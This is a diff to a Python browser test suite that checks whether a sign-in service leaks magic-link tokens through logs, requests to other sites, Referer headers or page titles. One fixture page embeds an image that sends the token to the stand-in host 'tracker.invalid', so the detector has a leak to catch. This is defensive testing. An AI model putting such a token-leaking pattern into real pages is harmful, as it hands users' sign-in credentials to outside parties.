@@ -107,18 +107,41 @@ def test_a_walk_by_links_in_a_real_browser_tells_nobody(started: Service, chromi
     assert all(site.startswith(started.url) for site in sites), "a page asks another site for something"
 
 
-def test_what_would_tell_is_found(started: Service, chromium: Browser, proof: Recorder):
+def test_a_line_of_a_log_that_tells_is_found(started: Service, proof: Recorder):
     token = "T" * 43
     log = started.mail.parent / "log" / "planted.log"
     log.write_text(LINE.format(f"/sign-in/link/{token}"))
     assert tellers(files(started.mail.parent), [token]) == ["log/planted.log"]
     log.unlink()
     proof.caught(8, "a token in a line of a log")
-    watch = Watch(chromium.new_page())
-    watch.page.set_content(f'<img src="http://tracker.invalid/?from={token}">')
-    watch.page.wait_for_timeout(200)
-    assert len(tellers({name: what for name, what in watch.places.items() if "request" in name}, [token])) == 1
-    proof.caught(8, "a token in a request to a page's neighbour")
+
+
+LEAKY = """<!doctype html><html lang="en"><title>{title}</title><main><img src="{neighbour}" alt="">
+<form action="/sign-in"><input name="a"><button>On</button></form></main>"""
+
+
+TRACKER = "http://tracker.invalid/?from={}"
+TOLD = {  # what the page does that no view of fnett does → its policy, title and neighbour, and where the token is found
+    "a token in a request to a page's neighbour": ("no-referrer", "fnett", TRACKER, {"request", "page"}),
+    "a token in a Referer": ("unsafe-url", "fnett", "/planted.png", {"request"}),
+    "a token in a page's title": ("no-referrer", "{}", "/planted.png", {"page"}),
+}
+
+
+@pytest.mark.parametrize("control", TOLD)
+def test_a_page_that_tells_its_token_is_found(started: Service, chromium: Browser, proof: Recorder, control: str):
+    """The walk of above over a page whose address is clean by the time it is looked at, and something else is not."""
+    token, (policy, title, neighbour, places) = "T" * 43, TOLD[control]
+    page = LEAKY.format(title=title.format(token), neighbour=neighbour.format(token))
+    head = {"Content-Type": "text/html", "Referrer-Policy": policy}
+    watch = Watch(chromium.new_context(locale="nb").new_page())
+    watch.page.route("**/sign-in/link/*", lambda route: route.fulfill(status=200, headers=head, body=page))
+    watch.page.goto(f"{started.url}/sign-in/link/{token}")
+    watch.page.evaluate("history.replaceState(null, '', '/sign-in/confirm')")
+    watch.look()
+    watch.press("[name=a]")
+    assert {name.split()[0] for name in tellers(watch.places, [token])} == places
+    proof.caught(8, control)
 
 
 def logged(path: str) -> str:
